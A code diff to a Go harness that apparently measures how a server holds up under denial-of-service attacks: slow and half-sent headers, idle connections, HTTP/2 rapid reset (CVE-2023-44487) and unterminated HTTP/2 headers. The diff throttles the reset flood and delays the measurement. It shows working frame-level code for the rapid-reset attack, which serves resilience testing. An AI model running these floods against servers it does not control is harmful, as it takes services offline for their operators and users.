@@ -31,7 +31,7 @@ var attacks = []attack{
 	{"300 half headers", 64, (*attackers).halfHeaders},
 	{"500 slow readers", 128, (*attackers).slowReaders},
 	{"10,000 idle connections", 256, (*attackers).idle},
-	{"HTTP/2 streams that are reset", 64, (*attackers).resets},
+	{"10,000 HTTP/2 streams a second that are reset", 64, (*attackers).resets},
 	{"HTTP/2 headers without an end", 64, (*attackers).continuations},
 }
 
@@ -98,6 +98,7 @@ func (c *campaign) attack(s *server, p *probe, a attack, large string) error {
 	if err := a.open(at); err != nil {
 		return err
 	}
+	time.Sleep(time.Second) // what it costs to hold out, not to begin
 	beside, err := p.measure(3 * time.Second)
 	if err != nil {
 		return fmt.Errorf("pull beside: %w", err)
@@ -220,7 +221,8 @@ func frame(kind, flags byte, stream uint32, payload []byte) []byte {
 // literal for the authority.
 var headers = []byte{0x82, 0x84, 0x86, 0x41, 0x01, 'x'}
 
-// resets begins and resets streams as fast as it can (CVE-2023-44487).
+// resets begins and resets streams (CVE-2023-44487), 10,000 a second at most: more
+// would measure who gets the processor.
 func (at *attackers) resets() error {
 	hello := append([]byte(preface), frame(frameSettings, 0, 0, nil)...)
 	if err := at.dial(10, func(int) []byte { return nil }); err != nil {
@@ -235,7 +237,7 @@ func (at *attackers) resets() error {
 				if _, err := conn.Write(append(f, frame(frameReset, 0, stream, []byte{0, 0, 0, 8})...)); err != nil {
 					return
 				}
-				if stream%200 == 1 {
+				if stream%20 == 1 {
 					time.Sleep(10 * time.Millisecond)
 				}
 			}
